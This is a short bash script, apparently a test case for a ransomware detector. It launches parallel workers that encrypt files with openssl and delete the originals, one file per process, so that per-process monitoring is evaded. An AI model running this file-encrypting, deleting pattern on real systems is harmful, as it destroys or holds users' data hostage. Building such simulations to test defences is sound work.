#!/usr/bin/env bash
# Multi-process fan-out: xargs starts one worker process per file, eight at
# a time; each worker (fanout-worker.sh) encrypts its file with openssl to X.enc and
# unlinks X. No single process does more than one file.
. "$(dirname "$0")/attack-lib.sh"
destructive
attempted=${#FILES[@]}
printf '%s\0' "${FILES[@]}" | timeout "$MAX_SECONDS" xargs -0 -n 1 -P 8 "$(dirname "$0")/fanout-worker.sh"
